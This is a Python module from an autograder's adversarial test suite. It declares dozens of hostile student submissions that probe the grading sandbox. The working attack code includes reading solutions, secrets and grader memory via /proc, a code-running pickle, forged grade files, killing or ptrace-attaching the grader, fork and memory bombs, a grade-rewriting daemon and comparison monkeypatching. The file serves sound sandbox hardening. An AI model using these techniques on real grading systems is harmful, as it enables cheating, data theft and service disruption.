"""The attack submissions of the adversarial suite: one small declaration per attack.

Every attack is a copy of the reference solution with a few lines of hostile code appended to one or two modules
(appending a ``def`` replaces the function of that name; appending statements runs them at import). Two bases:

* ``"penguins"``: the reference ``trees``, ``penguins`` and ``posenc`` and the *starter* ``mnist_mlp`` (whose checks
  fail at once with NotImplementedError), so that a submission costs a few seconds of grading;
* ``"mnist"``: the whole reference with ``BEST_CONFIG = None`` (``best_config`` then fails at once instead of training
  for a minute), for the attacks that need working ``mnist_mlp`` code.

**The oracle.** A read or write attack is a *canary*: the function it sits in (``penguins.is_gentoo`` unless said
otherwise) returns the right answer *only if the forbidden action succeeded*, and a wrong one (all ``False``)
otherwise. So a blocked attack shows up as exactly its ``gains`` checks failing while the other checks keep their
points, and a hole shows up as a ``gains`` check that passed. Each probe prints what it tried and what happened
(``ADV: ...``); that text is in the check's output in ``grading.json``.

The attack code runs inside the worker and knows the run's real paths through ``ADV`` (a dict the suite fills in at
test time: see ``conftest.Run.adv``): ``ADV["course"]`` (the course copy graded), ``ADV["repo"]`` (this checkout),
``ADV["data"]`` (``AUTOGRADER_DATA``), ``ADV["out"]`` (the output folder), ``ADV["token"]`` (the run's folder, which
appears in the grader's command line), and so on.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path

from autograder.results import Status

NOT_PASSED = frozenset({Status.FAILED, Status.ERROR, Status.CRASHED, Status.TIMEOUT, Status.BUDGET_EXHAUSTED})
ANY = NOT_PASSED | {Status.PASSED}

ROOT = Path(__file__).resolve().parents[2]
SOLUTION = ROOT / "solutions" / "hw2"
STARTER = ROOT / "assignments" / "hw2"
MODULES = ("trees", "mnist_mlp", "penguins", "posenc")
CHECKS = {
    "mnist_mlp": ("build_mlp", "train_history", "overfit_batch", "best_config", "model_round_trip"),
    "penguins": ("prepare_features", "is_gentoo", "is_gentoo_without_flipper", "classifier"),
}
GRADED_TASKS = tuple(CHECKS)


@dataclass(frozen=True)
class Attack:
    """One attack submission and what grading it must give.

    Attributes:
        name: the submission's name (its id is ``adv<NN>-<name>``).
        code: module -> source appended to that module.
        gains: checks that pass only if the attack worked: each must end neither ``passed`` nor with points.
        base: ``"penguins"`` or ``"mnist"`` (see the module docstring).
        expect: statuses allowed for other checks the attack legitimately breaks (check id -> statuses); every
            check not named here or in ``gains`` must end as for an honest submission of the same base.
        gaps: isolation level -> why that level is not designed to stop this attack (the case is an expected
            failure there, reported as XPASS if the level stops it anyway).
        user: also run at the fallback ``user`` level (cheap, level-dependent attacks); the slow ones and the
            attacks on judge-side logic run under ``bwrap`` only.
        slow: a long submission (started first, so that the batch's tail stays short).
        capped: its grading time must stay within the submission budget.
        markers: ``ADV`` keys of host paths that must not exist after the batch.
        zip_slip: the submission is a ``.zip`` with entries that point outside the folder it is unpacked to.
    """

    name: str
    code: Mapping[str, str] = field(default_factory=dict)
    gains: tuple[str, ...] = ("penguins.is_gentoo",)
    base: str = "penguins"
    expect: Mapping[str, frozenset[Status]] = field(default_factory=dict)
    gaps: Mapping[str, str] = field(default_factory=dict)
    user: bool = True
    slow: bool = False
    capped: bool = False
    markers: tuple[str, ...] = ()
    zip_slip: bool = False

    def baseline(self) -> dict[str, Status]:
        """The status every check gets for an honest submission of this base."""
        honest = {f"penguins.{c}": Status.PASSED for c in CHECKS["penguins"]}
        if self.base == "penguins":
            # the starter's NotImplementedError
            honest.update({f"mnist_mlp.{c}": Status.ERROR for c in CHECKS["mnist_mlp"]})
        else:
            honest.update({f"mnist_mlp.{c}": Status.PASSED for c in CHECKS["mnist_mlp"]})
            honest["mnist_mlp.best_config"] = Status.FAILED  # BEST_CONFIG = None
        return honest

    def allowed(self) -> dict[str, frozenset[Status]]:
        """Check id -> the statuses it may end with."""
        allowed = {check: frozenset({status}) for check, status in self.baseline().items()}
        allowed.update({check: NOT_PASSED for check in self.gains})
        allowed.update(self.expect)
        return allowed


def everything(statuses: frozenset[Status], *,
               but: Mapping[str, frozenset[Status]] | None = None) -> dict[str, frozenset[Status]]:
    """Every graded check -> ``statuses`` (except those in ``but``)."""
    return {**{f"{t}.{c}": statuses for t in GRADED_TASKS for c in CHECKS[t]}, **(but or {})}


# -- the student-side harness appended before every attack ---------------------------------------------------------

PRELUDE = '''

# ---- adversarial suite: the run's paths and small probes (student side) ----
import json as _json
import os as _os
import signal as _signal
import sys as _sys
import time as _time

import numpy as _np

ADV = _json.loads(__ADV__)
_HONEST = {_k: _v for _k, _v in list(globals().items()) if callable(_v) and not _k.startswith("_")}


def _adv_log(*parts):
    print("ADV:", *parts, flush=True)


def _adv_answer(X, won, what):
    """is_gentoo's right answer if the forbidden action ``what`` succeeded, else a wrong one."""
    _adv_log(what, "-> SUCCEEDED: the attack worked" if won else "-> blocked")
    return _HONEST["is_gentoo"](X) if won else _np.zeros(len(X), dtype=bool)


def _adv_read(path, size=1 << 20):
    """The first bytes of ``path``; None if it cannot be read or is empty (hidden package data is an empty file)."""
    try:
        with open(path, "rb") as handle:
            data = handle.read(size)
    except Exception as exc:
        _adv_log("read", path, "failed:", type(exc).__name__, exc)
        return None
    _adv_log("read", path, "gave", len(data), "bytes")
    return data or None


def _adv_readable(*paths, needle=None):
    return any((data := _adv_read(p)) is not None and (needle is None or needle in data) for p in paths)


def _adv_write(path, data, append=False, create=False):
    """Write into ``path``, which must exist (create=True: a new file in a folder that exists). Folders are never
    made: a sandbox may let a worker create a private path that looks like the real one, which proves nothing."""
    flags = _os.O_WRONLY | (_os.O_APPEND if append else _os.O_TRUNC) | (_os.O_CREAT if create else 0)
    try:
        with open(_os.open(path, flags, 0o644), "wb") as handle:
            handle.write(data)
    except Exception as exc:
        _adv_log("write", path, "failed:", type(exc).__name__, exc)
        return False
    _adv_log("write", path, "SUCCEEDED")
    return True


def _adv_find(suffix, seconds=5.0):
    """Walk the file system (what a student without the paths would do) for files whose path ends with suffix."""
    found, deadline = [], _time.monotonic() + seconds
    for root, dirs, files in _os.walk("/"):
        if _time.monotonic() > deadline:
            break
        dirs[:] = [d for d in dirs if _os.path.join(root, d) not in ("/proc", "/sys", "/dev", "/usr", "/lib", "/bin")]
        found += [_os.path.join(root, f) for f in files if _os.path.join(root, f).endswith(suffix)]
    _adv_log("search for", suffix, "found", found[:5])
    return found


def _adv_cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return handle.read().replace(b"\\0", b" ").decode(errors="replace")
    except Exception:
        return ""


def _adv_pids():
    return [int(e) for e in _os.listdir("/proc") if e.isdigit() and int(e) != _os.getpid()]


def _adv_graders():
    """This run's grader: the process whose command line names the run's folder."""
    found = [p for p in _adv_pids() if ADV["token"] in _adv_cmdline(p) and "autograder" in _adv_cmdline(p)]
    _adv_log("grader processes visible:", found)
    return found


def _adv_siblings():
    """Other workers of this class (their command line names a scratch folder grade-adv..., not ours)."""
    found = [p for p in _adv_pids() if "grade-adv" in _adv_cmdline(p) and ADV["self_id"] not in _adv_cmdline(p)]
    _adv_log("other workers visible:", found)
    return found


SYSCTLS = ["kernel/core_pattern", "fs/lease-break-time", "kernel/pid_max", "vm/overcommit_memory",
           "kernel/randomize_va_space"]


def _adv_proc_sys():
    """Write each kernel setting with its current value (a no-op where it succeeds); the ones accepted."""
    accepted = []
    for name in SYSCTLS:
        try:
            value = open("/proc/sys/" + name).read()
            with open("/proc/sys/" + name, "w") as handle:
                handle.write(value)
            accepted.append(name)
        except OSError:
            pass
    return accepted


print("ADV: PROC-SYS-ACCEPTED", _adv_proc_sys(), flush=True)  # every attack probes it at import (see test_attacks)


def _adv_state(pid):
    """The process state letter (R, S, T, Z, ...), or None once it is gone."""
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return handle.read().rsplit(")", 1)[1].split()[0]
    except Exception:
        return None
'''


def source(attack: Attack, module: str, adv: Mapping[str, object]) -> str:
    """The text of ``module`` in ``attack``'s submission (``adv``: the values of ``ADV`` for it)."""
    if module == "mnist_mlp" and attack.base == "penguins":
        text = (STARTER / "mnist_mlp.py").read_text()
    else:
        text = (SOLUTION / f"{module}.py").read_text()
        if module == "mnist_mlp":
            text += "\n\nBEST_CONFIG = None  # best_config fails at once: the attacks are elsewhere\n"
    if module in attack.code:
        text += PRELUDE.replace("__ADV__", repr(json.dumps(dict(adv)))) + "\n\n" + attack.code[module].strip() + "\n"
    return text


def honest_sources() -> dict[str, str]:
    """The honest submission: the whole reference solution."""
    return {module: (SOLUTION / f"{module}.py").read_text() for module in MODULES}


# -- the attacks ---------------------------------------------------------------------------------------------------

WORLD_READABLE = ("the fallback level runs student code as another user, which still reads world-readable files "
                  "(autograder/sandbox/confine/user.py: hiding them needs bwrap)")
NO_NETNS = ("the fallback level has no network namespace "
            "(autograder/sandbox/confine/user.py: cutting the network needs bwrap)")
PROC_CMDLINE = "every user may read every process's command line in /proc (hiding them needs a PID namespace)"


def _gentoo(body: str) -> dict[str, str]:
    """An attack in ``penguins.is_gentoo``: ``body`` is the function's body."""
    return {"penguins": "def is_gentoo(X):\n" + body.strip("\n") + "\n"}


ATTACKS: list[Attack] = [
    # ---- resources (slow ones first: the batch starts them first) ----
    # train loops forever: the submission budget must end it, not the sum of the check timeouts (~10 minutes).
    Attack("infinite-loop", {"mnist_mlp": "def train(model, *args, **kwargs):\n    while True:\n        pass\n"},
           gains=(), base="mnist", slow=True, capped=True, user=False,
           expect=everything(NOT_PASSED, but={"mnist_mlp.build_mlp": frozenset({Status.PASSED})})),
    # every function of two modules sleeps for an hour: the budget must cap the whole submission.
    Attack("sleep-everywhere", {
        "penguins": "\n".join(f"def {f}(*args, **kwargs):\n    _time.sleep(3600)\n" for f in
                              ("load_data", "prepare_features", "is_gentoo", "is_gentoo_without_flipper",
                               "make_classifier")),
        "mnist_mlp": "\n".join(f"def {f}(*args, **kwargs):\n    _time.sleep(3600)\n" for f in
                               ("build_mlp", "train", "predict", "save_model", "load_model", "logits_in_batches")),
    }, gains=(), base="mnist", slow=True, capped=True, user=False, expect=everything(NOT_PASSED)),

    # ---- trickery that needs working mnist_mlp code ----
    # train does not train and returns a made-up, steadily falling loss history.
    Attack("made-up-history", {"mnist_mlp": '''
def train(model, X_train, y_train, X_val, y_val, *, lr, epochs, batch_size, optimizer="sgd", device="cpu", seed=0):
    _adv_log("no training; returning a made-up history")
    return {"train_loss": [2.0 / (e + 1) for e in range(epochs)], "val_loss": [1.5 / (e + 1) for e in range(epochs)],
            "val_error": [0.3 / (e + 1) for e in range(epochs)]}
'''}, gains=("mnist_mlp.train_history",), base="mnist", user=False,
           expect={"mnist_mlp.overfit_batch": NOT_PASSED}),
    # train does not train but reports the untrained model's true validation loss and error as the last entry.
    Attack("made-up-history-consistent", {"mnist_mlp": '''
def train(model, X_train, y_train, X_val, y_val, *, lr, epochs, batch_size, optimizer="sgd", device="cpu", seed=0):
    import torch
    import torch.nn.functional as F
    logits = logits_in_batches(model, X_val, device)
    y = torch.as_tensor(y_val, dtype=torch.long).to(device)
    loss, error = F.cross_entropy(logits, y).item(), (logits.argmax(dim=1) != y).float().mean().item()
    _adv_log("no training; history ends with the untrained model's own figures", loss, error)
    return {"train_loss": [loss + 1.0 - e / epochs for e in range(epochs)],
            "val_loss": [loss + 0.1 * (epochs - 1 - e) for e in range(epochs)],
            "val_error": [min(1.0, error + 0.01 * (epochs - 1 - e)) for e in range(epochs)]}
'''}, gains=("mnist_mlp.train_history",), base="mnist", user=False,
           expect={"mnist_mlp.overfit_batch": NOT_PASSED}),
    # save_model writes a pickle whose unpickling runs code (it would create a marker file on the host).
    Attack("pickled-model", {"mnist_mlp": '''
class _Payload:
    def __reduce__(self):
        return (exec, ("open(%r, 'w').write(open('/proc/self/cmdline').read())" % ADV["pickle_marker"],))


def save_model(model, path):
    import torch
    _HONEST["save_model"](model, path)
    checkpoint = torch.load(path, weights_only=True)
    checkpoint["note"] = _Payload()
    torch.save(checkpoint, path)
    _adv_log("saved a checkpoint that runs code when unpickled")
'''}, gains=("mnist_mlp.model_round_trip",), base="mnist", user=False, markers=("pickle_marker",)),

    # ---- reads: the answers ----
    # read the reference solutions (course copy, this checkout, next to the interpreter, or by searching).
    Attack("read-solutions", _gentoo('''
    paths = [ADV["course"] + "/solutions/hw2/penguins.py", ADV["repo"] + "/solutions/hw2/penguins.py",
             _os.path.join(_os.path.dirname(_sys.prefix), "solutions/hw2/penguins.py")]
    paths += _adv_find("solutions/hw2/penguins.py")
    return _adv_answer(X, _adv_readable(*paths, needle=b"def is_gentoo"), "read the reference solutions")
'''), gaps={"user": WORLD_READABLE}),
    # read the hidden checks.
    Attack("read-checks", _gentoo('''
    paths = [ADV["course"] + "/solutions/hw2/checks/penguins.py", ADV["repo"] + "/solutions/hw2/checks/penguins.py"]
    paths += _adv_find("hw2/checks/penguins.py")
    return _adv_answer(X, _adv_readable(*paths, needle=b"@check"), "read the hidden checks")
'''), gaps={"user": WORLD_READABLE}),
    # read course.yml (thresholds, time limits).
    Attack("read-course-yml", _gentoo('''
    paths = [ADV["course"] + "/course.yml", ADV["repo"] + "/course.yml"]
    return _adv_answer(X, _adv_readable(*paths, needle=b"thresholds"), "read course.yml")
'''), gaps={"user": WORLD_READABLE}),
    # read held-out MNIST labels in the offline data folder (AUTOGRADER_DATA), by path or by searching.
    Attack("read-data-folder", _gentoo('''
    paths = [ADV["data"] + "/MNIST/raw/t10k-labels-idx1-ubyte.gz"] + _adv_find("t10k-labels-idx1-ubyte.gz")
    return _adv_answer(X, _adv_readable(*paths), "read the offline data folder")
'''), gaps={"user": WORLD_READABLE}),
    # read the download cache ($AUTOGRADER_CACHE and ~/.cache/autograder of the grader).
    Attack("read-download-cache", _gentoo('''
    paths = [ADV["cache"] + "/MNIST/raw/t10k-labels-idx1-ubyte.gz",
             ADV["home"] + "/.cache/autograder/MNIST/raw/t10k-labels-idx1-ubyte.gz"]
    return _adv_answer(X, _adv_readable(*paths), "read the download cache")
''')),
    # read the penguins CSV that ships inside the installed palmerpenguins package (every held-out species).
    Attack("read-package-penguins", _gentoo('''
    import importlib.util
    found = _os.path.join(_os.path.dirname(importlib.util.find_spec("palmerpenguins").origin), "data", "penguins.csv")
    return _adv_answer(X, _adv_readable(found, ADV["penguins_csv"], needle=b"Gentoo"), "read palmerpenguins' CSV")
'''), gaps={"user": WORLD_READABLE}),
    # read scikit-learn's bundled china.jpg (every held-out pixel of posenc).
    Attack("read-package-image", _gentoo('''
    import importlib.util
    found = _os.path.join(_os.path.dirname(importlib.util.find_spec("sklearn").origin),
                          "datasets", "images", "china.jpg")
    return _adv_answer(X, _adv_readable(found, ADV["china_jpg"], needle=b"JFIF"), "read sklearn's china.jpg")
'''), gaps={"user": WORLD_READABLE}),
    # read the key that signs grading.json (it would forge records a re-run trusts).
    Attack("read-record-key", _gentoo('''
    return _adv_answer(X, _adv_readable(ADV["home"] + "/.config/autograder/record.key"), "read the record key")
''')),
    # find the data folder, cache or a secret in the worker's own environment (inherited from the grader).
    Attack("read-own-environment", _gentoo('''
    leaked = sorted(k for k in ("AUTOGRADER_DATA", "AUTOGRADER_CACHE", ADV["secret_var"]) if k in _os.environ)
    leaked += [k for k, v in _os.environ.items() if ADV["secret"] in v]
    return _adv_answer(X, bool(leaked), f"find the grader's variables in my environment {leaked}")
''')),
    # read the grader's environment through /proc/<grader pid>/environ (and the parent's).
    Attack("read-proc-environ", _gentoo('''
    won = False
    for pid in _adv_graders() + [_os.getppid()]:
        data = _adv_read(f"/proc/{pid}/environ", size=1 << 20)
        won |= bool(data) and ADV["secret"].encode() in data
    return _adv_answer(X, won, "read the grader's environ")
''')),
    # read the grader's command line (course, data and output paths) by scanning /proc.
    Attack("read-proc-cmdline", _gentoo('''
    return _adv_answer(X, bool(_adv_graders()), "read the grader's command line")
'''), gaps={"user": PROC_CMDLINE}),
    # read the grader's memory (where the held-out labels are) through /proc/<grader pid>/mem.
    Attack("read-proc-mem", _gentoo('''
    won = False
    for pid in _adv_graders():  # not the parent: under bwrap that is the sandbox's own init
        try:
            with open(f"/proc/{pid}/maps") as maps:
                region = next(line for line in maps if line.split()[1].startswith("r"))
            start = int(region.split("-")[0], 16)
            with open(f"/proc/{pid}/mem", "rb") as mem:
                mem.seek(start)
                won |= len(mem.read(4096)) > 0
        except Exception as exc:
            _adv_log("reading the memory of", pid, "failed:", type(exc).__name__, exc)
    return _adv_answer(X, won, "read the grader's memory")
''')),

    # ---- writes ----
    # write a fake results.json where Gradescope reads it, and over this submission's own results.
    Attack("write-gradescope-results", _gentoo('''
    fake = b'{"score": 100, "tests": []}'
    won = _adv_write("/autograder/results/results.json", fake, create=True)
    try:
        _os.mkdir(ADV["out"] + "/" + ADV["self_id"])  # in the real output folder (which exists), not in a copy
    except OSError as exc:
        _adv_log("mkdir in the output folder failed:", exc)
    won |= _adv_write(ADV["out"] + "/" + ADV["self_id"] + "/results.json", fake, create=True)
    return _adv_answer(X, won, "write a fake results.json")
'''), markers=("gradescope_results",)),
    # overwrite another submission's grading.json and the class's grades.csv in the output folder.
    Attack("write-output-folder", _gentoo('''
    won = _adv_write(ADV["out"] + "/" + ADV["honest_id"] + "/grading.json", b'{"forged": true}')
    won |= _adv_write(ADV["out"] + "/grades.csv", b"forged,0,0,0,0,0,graded,0,bwrap,\\n", append=True)
    won |= _adv_write(ADV["out_marker"], b"forged", create=True)
    return _adv_answer(X, won, "write the output folder")
'''), markers=("out_marker",)),
    # append to the hidden checks and course.yml, which the next run would load.
    Attack("write-course-folder", _gentoo('''
    won = _adv_write(ADV["course"] + "/solutions/hw2/checks/penguins.py", b"\\n# appended by an attack\\n", append=True)
    won |= _adv_write(ADV["course"] + "/course.yml", b"\\n# appended by an attack\\n", append=True)
    return _adv_answer(X, won, "write the course folder")
''')),
    # relabel the installed palmerpenguins CSV (every Gentoo becomes an Adelie) before the judge reads it again.
    Attack("write-package-data", _gentoo('''
    import importlib.util
    found = _os.path.join(_os.path.dirname(importlib.util.find_spec("palmerpenguins").origin), "data", "penguins.csv")
    won = False
    for path in dict.fromkeys([found, ADV["penguins_csv"]]):
        data = _adv_read(path, size=1 << 20) or b"species,island\\nAdelie,Torgersen\\n"
        won |= _adv_write(path, data.replace(b"Gentoo", b"Adelie"))
    return _adv_answer(X, won, "relabel palmerpenguins' CSV")
''')),
    # write into other workers' scratch folders (found under /tmp/autograder-* or through /proc/<pid>/cwd).
    Attack("write-other-scratch", _gentoo('''
    import glob
    mine, won, deadline = _os.path.realpath(_os.getcwd()), False, _time.monotonic() + 8
    while not won and _time.monotonic() < deadline:
        folders = glob.glob("/tmp/autograder-*/grade-*/*/work") + glob.glob("/tmp/autograder-*/grade-*/work")
        for pid in _adv_siblings():
            try:
                folders.append(_os.readlink(f"/proc/{pid}/cwd"))
            except OSError as exc:
                _adv_log("cwd of", pid, "unreadable:", exc)
        for folder in set(folders):
            if "grade-adv" in folder and _os.path.realpath(folder) != mine:
                won |= _adv_write(_os.path.join(folder, ADV["scratch_marker"]), b"written by another submission",
                                  create=True)
        _time.sleep(0.5)
    return _adv_answer(X, won, "write another worker's scratch folder")
''')),

    # ---- processes ----
    # SIGKILL the parent, the grader and every process of this class whose command line mentions autograder.
    Attack("kill-grader", _gentoo('''
    targets = set(_adv_graders() + _adv_siblings())
    if ADV["token"] in _adv_cmdline(_os.getppid()):  # the parent, when it is the grader itself
        targets.add(_os.getppid())
    sent = []
    for pid in targets:
        try:
            _os.kill(pid, _signal.SIGKILL)
            sent.append(pid)
        except OSError as exc:
            _adv_log("kill", pid, "refused:", exc)
    _time.sleep(1)
    # only what this attack's own signal reached: other workers of the class end on their own all the time
    died = [pid for pid in sent if _adv_state(pid) in (None, "Z", "X")]
    return _adv_answer(X, bool(died), f"SIGKILL the grader and its workers {sorted(targets)}: dead {died}")
''')),
    # SIGSTOP the grader (so that its watchdog and timeouts stop), then let it go on.
    Attack("stop-grader", _gentoo('''
    stopped = []
    for pid in _adv_graders():
        try:
            _os.kill(pid, _signal.SIGSTOP)
            _time.sleep(0.5)
            if _adv_state(pid) in ("T", "t"):
                stopped.append(pid)
            _time.sleep(2)
            _os.kill(pid, _signal.SIGCONT)
        except OSError as exc:
            _adv_log("stop", pid, "refused:", exc)
    return _adv_answer(X, bool(stopped), f"SIGSTOP the grader: stopped {stopped}")
''')),
    # attach to the grader with ptrace (it could then read and write the judge's memory).
    Attack("ptrace-grader", _gentoo('''
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    attached = []
    for pid in _adv_graders():
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            attached.append(pid)
            try:
                _os.waitpid(pid, 0x40000000)  # __WALL
            except OSError:
                pass
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        else:
            _adv_log("ptrace", pid, "refused: errno", ctypes.get_errno())
    return _adv_answer(X, bool(attached), f"ptrace the grader: attached to {attached}")
''')),
    # fork bomb of small processes (each child becomes /bin/sleep, so that the process limit, not the memory limit,
    # must stop it; bounded at 1000 so that a missing limit cannot take the machine down).
    Attack("fork-bomb", _gentoo('''
    children = 0
    while children < 1000:
        try:
            pid = _os.fork()
        except OSError as exc:
            _adv_log("fork refused after", children, "children:", exc)
            break
        if pid == 0:
            try:
                _os.execv("/bin/sleep", ["sleep", "300"])
            finally:
                _os._exit(0)
        children += 1
    return _adv_answer(X, children >= 1000, f"start {children} processes")
''')),
    # double-fork a setsid daemon that outlives the worker and keeps rewriting the output folder.
    Attack("daemon", _gentoo('''
    daemon = """
import json, os, sys, time
out, victim, own = sys.argv[1:4]
end = time.time() + 600
while time.time() < end:
    for sid, passed in ((victim, False), (own, True)):
        path = os.path.join(out, sid, "grading.json")
        try:
            record = json.load(open(path))
            for check in record["checks"]:
                check["status"], check["score"] = ("passed", check["max_score"]) if passed else ("failed", 0.0)
            open(path, "w").write(json.dumps(record))
        except Exception:
            pass
    time.sleep(0.3)
"""
    child = _os.fork()
    if child == 0:
        _os.setsid()
        if _os.fork() == 0:
            null = _os.open(_os.devnull, _os.O_RDWR)
            for fd in (0, 1, 2):
                _os.dup2(null, fd)
            _os.closerange(3, 4096)
            _os.execv(_sys.executable, [_sys.executable, "-c", daemon, ADV["out"], ADV["honest_id"], ADV["self_id"],
                                        ADV["daemon_marker"]])
        _os._exit(0)
    _os.waitpid(child, 0)
    return _adv_answer(X, False, "start a daemon (judged by what it leaves behind)")
''')),

    # ---- resources ----
    # allocate (and touch) up to 12 GiB.
    Attack("memory-bomb", _gentoo('''
    hoard = []
    for _ in range(48):
        hoard.append(_np.ones(32 * 2**20))  # 256 MiB, every page touched
    return _adv_answer(X, True, "allocate 12 GiB")
''')),
    # fill the disk from the work folder (a 4 GiB file).
    Attack("disk-fill-work", _gentoo('''
    block, written = b"\\xa5" * (64 << 20), 0
    try:
        with open("fill.bin", "wb") as handle:
            while written < 4 << 30:
                handle.write(block)
                handle.flush()
                written += len(block)
    except OSError as exc:
        _adv_log("write stopped at", written >> 20, "MiB:", exc)
    return _adv_answer(X, written >= 4 << 30, f"write {written >> 20} MiB into the work folder")
''')),
    # fill /tmp (a 4 GiB file there; the name is the run's, so the suite can find and remove it).
    Attack("disk-fill-tmp", _gentoo('''
    block, written = b"\\xa5" * (64 << 20), 0
    try:
        with open(ADV["tmp_fill"], "wb") as handle:
            while written < 4 << 30:
                handle.write(block)
                handle.flush()
                written += len(block)
    except OSError as exc:
        _adv_log("write stopped at", written >> 20, "MiB:", exc)
    return _adv_answer(X, written >= 4 << 30, f"write {written >> 20} MiB into /tmp")
'''), markers=("tmp_fill",)),
    # flood stdout with about 240 MB.
    Attack("stdout-flood", _gentoo('''
    line = "flood " * 10000 + "\\n"
    for _ in range(4000):
        _sys.stdout.write(line)
    _sys.stdout.flush()
    return _adv_answer(X, True, "print 240 MB")
''')),
    # reply with one 900 MiB array (the judge would materialise it).
    Attack("reply-huge-array", _gentoo('''
    return _np.zeros(900 * 2**20 // 8)
'''), user=False),
    # reply with very many small arrays (the same 8 KiB array 50,000 times).
    Attack("reply-many-arrays", _gentoo('''
    return [_np.zeros(1024)] * 50_000
'''), user=False),

    # ---- network ----
    # connect to a listener the suite opened on 127.0.0.1 and send it a message.
    Attack("network", _gentoo('''
    import socket
    try:
        with socket.create_connection(("127.0.0.1", ADV["port"]), timeout=3) as connection:
            connection.sendall(ADV["net_marker"].encode())
        won = True
    except OSError as exc:
        _adv_log("connect failed:", exc)
        won = False
    return _adv_answer(X, won, "connect to the listener on 127.0.0.1")
'''), gaps={"user": NO_NETNS}),

    # ---- trickery ----
    # make NumPy's and torch's comparisons always succeed (would fool a judge sharing this interpreter).
    Attack("patch-comparisons", _gentoo('''
    import numpy
    import torch
    always = lambda *args, **kwargs: True
    numpy.allclose = numpy.array_equal = numpy.array_equiv = always
    numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
    numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *args, **kwargs: None
    mean = numpy.mean
    numpy.mean = lambda a, *args, **kwargs: 1.0 if numpy.asarray(a).dtype == bool else mean(a, *args, **kwargs)
    torch.equal = torch.allclose = always
    return _np.zeros(len(X), dtype=bool)
'''), user=False),
    # return an object that equals everything.
    Attack("always-equal-object", _gentoo('''
    class AlwaysEqual:
        dtype = _np.dtype(bool)
        def __init__(self, n):
            self.shape = (n,)
        def __eq__(self, other):
            return True
        def __ne__(self, other):
            return False
        def __len__(self):
            return self.shape[0]
    return AlwaysEqual(len(X))
'''), user=False),
    # return an ndarray subclass whose == is always all-True.
    Attack("always-equal-array", _gentoo('''
    class EqualArray(_np.ndarray):
        def __eq__(self, other):
            return _np.ones(self.shape, dtype=bool)
        def __ne__(self, other):
            return _np.zeros(self.shape, dtype=bool)
    return _np.zeros(len(X), dtype=bool).view(EqualArray)
'''), user=False),
    # sys.exit(0) while the module is imported.
    Attack("sys-exit-at-import", {"penguins": "_sys.exit(0)\n"}, gains=(), user=False,
           expect={f"penguins.{c}": NOT_PASSED for c in CHECKS["penguins"]}),
    # os._exit(0) while the module is imported (the worker vanishes without a word).
    Attack("os-exit-at-import", {"penguins": "_os._exit(0)\n"}, gains=(), user=False,
           expect={f"penguins.{c}": NOT_PASSED for c in CHECKS["penguins"]}),
    # sys.exit(0) in the middle of a check.
    Attack("sys-exit-mid-check", _gentoo("    _sys.exit(0)\n"), user=False),
    # os._exit(0) in the middle of a check.
    Attack("os-exit-mid-check", _gentoo("    _os._exit(0)\n")),
    # ---- root on the host, a judge that waits or swells, memory and disk out of sight ----
    # write the kernel's settings with their current values (no-ops where accepted): with core_pattern =
    # "|<scratch>/x.sh", the next crash of any process would run a script as root in the host's namespaces.
    Attack("write-proc-sys", _gentoo('''
    accepted = _adv_proc_sys()
    return _adv_answer(X, bool(accepted), f"write /proc/sys settings {accepted}")
''')),
    # take kernel file leases on files of the Python installation that the judge's processes open: each open of a
    # leased file waits 45 s (fs.lease-break-time) for the holder.
    Attack("lease-python-files", _gentoo('''
    import fcntl
    import importlib.util
    targets = [_os.__file__, _np.__file__] + [importlib.util.find_spec(m).origin for m in ("matplotlib", "PIL")
                                              if importlib.util.find_spec(m)]
    taken = []
    for path in targets:
        for mode, kind in ((_os.O_RDONLY, fcntl.F_RDLCK), (_os.O_WRONLY, fcntl.F_WRLCK)):
            try:
                fd = _os.open(path, mode)
                fcntl.fcntl(fd, fcntl.F_SETLEASE, kind)  # the fd stays open: the lease lasts as long as it
                taken.append(path)
            except OSError as exc:
                _adv_log("lease on", path, "refused:", exc)
    _time.sleep(2)
    return _adv_answer(X, bool(taken), f"lease the interpreter's files {taken}")
''')),
    # swap model.pt with a FIFO, over and over, from a thread that outlives save_model: a judge that opened it by
    # name would hang in open() (or read a symlink to the answers).
    Attack("fifo-model", {"mnist_mlp": '''
def save_model(model, path):
    import threading
    _HONEST["save_model"](model, path)
    real, fifo, back = path + ".real", path + ".fifo", path + ".back"
    _os.link(path, real)

    def swap():
        end = _time.monotonic() + 30
        while _time.monotonic() < end:
            try:
                if not _os.path.exists(fifo):
                    _os.mkfifo(fifo)
                _os.replace(fifo, path)
                _time.sleep(0.002)
                _os.link(real, back)
                _os.replace(back, path)
            except OSError:
                pass

    threading.Thread(target=swap, daemon=True).start()
    _adv_log("model.pt swaps with a FIFO in a loop")
'''}, gains=(), base="mnist", user=False, capped=True, expect={"mnist_mlp.model_round_trip": ANY}),
    # a checkpoint whose referenced record is deflated: 3 MB on disk, 3 GiB once a reader inflates it.
    Attack("deflated-model", {"mnist_mlp": '''
def save_model(model, path):
    import zipfile
    _HONEST["save_model"](model, path)
    with zipfile.ZipFile(path) as honest:
        members = [(info.filename, honest.read(info)) for info in honest.infolist()]
    record = next(name for name, _ in members if "/data/" in name and not name.endswith(".pkl"))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in members:
            if name != record:
                out.writestr(name, data)
        info = zipfile.ZipInfo(record)
        info.compress_type, info._compresslevel = zipfile.ZIP_DEFLATED, 1
        with out.open(info, "w", force_zip64=True) as member:
            block = bytes(1 << 24)
            for _ in range(3 * 64):
                member.write(block)
    _adv_log("saved a", _os.path.getsize(path), "byte checkpoint whose record", record, "inflates to 3 GiB")
'''}, gains=("mnist_mlp.model_round_trip",), base="mnist", user=False),
    # reply with 30 MB of nested empty lists: decoded whole, that is gigabytes of Python objects in the judge.
    Attack("reply-nested-lists", _gentoo('''
    return [[]] * 10_000_000
'''), user=False),
    # replace the worker's own cap on messages, then raise an exception with a 25 MiB message.
    Attack("huge-exception", _gentoo('''
    runtime = _sys.modules.get("_autograder_sandbox_runtime.output")
    if runtime is not None:
